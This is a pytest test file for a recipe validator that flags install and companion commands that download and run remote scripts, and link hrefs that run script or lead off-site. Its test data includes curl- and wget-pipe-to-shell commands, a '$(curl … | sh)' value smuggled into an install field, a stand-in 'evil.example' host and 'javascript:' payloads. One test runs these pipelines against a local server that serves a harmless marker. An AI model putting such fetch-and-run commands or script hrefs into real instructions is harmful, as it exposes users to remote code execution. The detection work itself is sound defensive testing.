"""Whole commands the site shows verbatim (install and dependency commands, platform
install snippets, a kv-store deployment's companion commands) are not judged by REF018's
"runs code it does not show": the reader sees them. What the reader does not see is a
script the command downloads and runs: over plain HTTP that is ``REF022`` (an error),
over https ``REF023`` (a warning). A real bash runs the flagged command against a real
HTTP server on 127.0.0.1 and runs the downloaded marker; the passing forms run nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import check_tree, line_of, replace_once
from tests.context_files import KV_STORE, kv_offload_text, kv_store_text
from tests.rules.ref.test_ref_shell_code import bash
from tests.static_server import serve_folder
from validator.cli import main
from validator.rules.ref.download_run import download_runs

CHAT = "models/example-org/Example-Chat-8B.yaml"


@pytest.fixture()
def script_server(tmp_path: Path) -> Iterator[str]:
    """``http://127.0.0.1:PORT/`` serving ``setup.sh``, a script that touches ``pwned``."""
    served = tmp_path / "served"
    served.mkdir()
    (served / "setup.sh").write_text("touch pwned\n")

    with serve_folder(served) as url:
        yield url


def _dependency(root: Path, command: str) -> str:
    return replace_once(root / CHAT, "\nvariants:",
                        f"\ndependencies:\n  - command: {command!r}\nvariants:")


def _findings(root: Path, *rules: str) -> list[tuple[str, str, int]]:
    return [(f.rule, f.severity.value, f.line) for f in check_tree(root, CHAT)
            if f.rule in rules]


@pytest.mark.parametrize("template", [
    "curl -sSL {url}setup.sh | bash",
    "bash <(curl -s {url}setup.sh)",
    'sh -c "$(curl -fsSL {url}setup.sh)"',
    "wget -qO- {url}setup.sh | sudo -E sh -s --",
])
def test_a_dependency_command_that_runs_a_plain_http_download_is_an_error_and_bash_runs_it(
        examples_tree: Path, tmp_path: Path, script_server: str, template: str) -> None:
    command = template.format(url=script_server)
    if command.startswith("wget") or "sudo" in command:
        command = command.replace("sudo -E ", "")  # no sudo in the test's bash
    run = tmp_path / "run"
    run.mkdir()
    bash(f"export PATH=/usr/bin:/bin; {command}", run)
    if not (run / "pwned").exists() and command.startswith("wget"):
        pytest.skip("no wget on this machine")
    assert (run / "pwned").exists()  # the copied command runs what the server sends
    text = _dependency(examples_tree, command)
    assert _findings(examples_tree, "REF022", "REF023", "REF018") == [
        ("REF022", "error", line_of(text, "command:"))]


def test_an_https_download_piped_into_a_shell_is_a_warning(examples_tree: Path) -> None:
    text = _dependency(examples_tree, "curl -fsSL https://astral.sh/uv/install.sh | sh")
    (finding,) = [f for f in check_tree(examples_tree, CHAT) if f.rule.startswith("REF02")]
    assert (finding.rule, finding.severity.value, finding.line) == (
        "REF023", "warning", line_of(text, "command:"))
    assert "`https://astral.sh/uv/install.sh`" in finding.message
    assert finding.pointer == "/dependencies/0/command"


@pytest.mark.parametrize("command", [
    "uv pip install git+https://github.com/vllm-project/vllm-omni.git",
    "git clone https://github.com/example/repo.git && cd repo && uv pip install -e .",
    "curl -fsSLO https://example.com/install.sh && sh install.sh",
    "export V=$(curl -s https://api.github.com/x | jq -r .tag_name)",
    "curl -s https://example.com/data.json | python3 -m json.tool",
    "hf download example-org/Example-Chat-8B --local-dir /path/to/model",
])
def test_commands_that_show_what_runs_pass(examples_tree: Path, command: str) -> None:
    _dependency(examples_tree, command)
    assert _findings(examples_tree, "REF022", "REF023", "REF018") == []


def test_the_pip_install_command_and_a_platform_snippet_are_judged_too(
        examples_tree: Path) -> None:
    text = replace_once(examples_tree / CHAT, "\nmodel:\n", "\nmodel:\n  install:\n    pip:\n"
                        "      command: |\n        uv venv\n"
                        "        curl http://example.com/x.sh | sh\n")
    text = replace_once(examples_tree / CHAT, "  hardware:\n", "  platforms:\n    - id: modal\n"
                        "      script: 'javascript:alert(1)'\n"
                        "      install: \"pip install modal\\n$(curl example.com/i | sh)\"\n"
                        "  hardware:\n", )
    found = _findings(examples_tree, "REF022", "REF023", "REF024")
    assert ("REF022", "error", line_of(text, "curl http://example.com")) in found
    assert ("REF022", "error", line_of(text, "install: \"pip install modal")) in found
    assert ("REF024", "error", line_of(text, "javascript:")) in found
    assert len(found) == 3


@pytest.mark.parametrize("target", [KV_STORE, "models/"])
def test_a_kv_store_companion_command_is_judged_on_the_kv_store_file(
        examples_tree: Path, capsys: pytest.CaptureFixture[str], target: str) -> None:
    (examples_tree / "kv_store").mkdir()
    text = kv_store_text() + ("mooncake_master:\n  command: \"curl http://example.com/m.sh"
                              " | bash\"\n")
    (examples_tree / KV_STORE).write_text(text)
    code = main(["check", "--offline", "--no-cache", "--format", "json",
                 str(examples_tree / target)])
    doc = json.loads(capsys.readouterr().out)
    found = [(d["path"], f["rule"], f["line"]) for d in doc["documents"] for f in d["findings"]
             if f["rule"].startswith("REF02")]
    assert code == 1
    assert found == [(KV_STORE, "REF022", line_of(text, "mooncake_master:") + 1)]


def test_a_scheme_less_curl_url_counts_as_plain_http() -> None:
    (run,) = download_runs("curl evil.example/x.sh | python3 -")
    assert run.urls == ("evil.example/x.sh",) and not run.secure


def test_a_feature_companion_command_is_judged_at_its_line(examples_tree: Path) -> None:
    text = replace_once(examples_tree / CHAT, '      - "hermes"\n',
                        '      - "hermes"\n    companion:\n'
                        '      command: "curl -s http://example.com/c.sh | sh"\n')
    assert _findings(examples_tree, "REF022") == [
        ("REF022", "error", line_of(text, "curl -s http://example.com/c.sh"))]


def test_a_kv_store_brand_install_and_a_taxonomy_option_install_are_judged(
        examples_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (examples_tree / "kv_store").mkdir()
    kv_text = kv_store_text().replace(
        "vllm:\n", "vllm:\n  install:\n    nvidia: \"uv pip install mooncake\"\n"
        "    amd: \"curl -fsSL http://example.com/mc.sh | bash\"\n", 1)
    (examples_tree / KV_STORE).write_text(kv_text)
    taxonomy = examples_tree / "taxonomy.yaml"
    tax_text = taxonomy.read_text() + kv_offload_text("--kv-offloading-size", "8") + \
        '    install: "curl -fsSL https://example.com/lmcache.sh | sh"\n'
    taxonomy.write_text(tax_text)
    main(["check", "--offline", "--no-cache", "--format", "json", str(examples_tree / "models/")])
    doc = json.loads(capsys.readouterr().out)
    found = sorted((d["path"], f["rule"], f["line"]) for d in doc["documents"]
                   for f in d["findings"] if f["rule"].startswith("REF02"))
    assert found == [(KV_STORE, "REF022", line_of(kv_text, "amd:")),
                     ("taxonomy.yaml", "REF023", line_of(tax_text, "lmcache.sh"))]


@pytest.mark.parametrize(("href", "found"), [
    ("javascript:alert(1)", True),
    ("http://rocm.docs.amd.com/", True),
    ("//evil.example/guide", True),
    ("/\\evil.example/guide", True),
    ("#dgx spark", True),
    ("#dgx-spark-gb10-cluster", False),
    ("/models/example-org/Example-Chat-8B", False),
    ("https://rocm.docs.amd.com/en/latest/", False),
])
def test_a_hardware_note_link_is_an_anchor_a_site_path_or_an_https_address(
        examples_tree: Path, href: str, found: bool) -> None:
    """The site writes a hardware note's ``link.href`` as the ``href`` of a link above
    the command: ``javascript:`` runs code in the page, ``http:`` can be rewritten on the
    way, ``//host`` leads off-site; an in-page anchor and a site path are fine."""
    text = replace_once(examples_tree / CHAT, "\nvariants:",
                        "\nhardware_notes:\n  h200:\n    title: \"Setup\"\n    link:\n"
                        f"      label: \"guide\"\n      href: {href!r}\nvariants:")
    expected = [("REF024", "error", line_of(text, "href:"))] if found else []
    assert _findings(examples_tree, "REF024") == expected
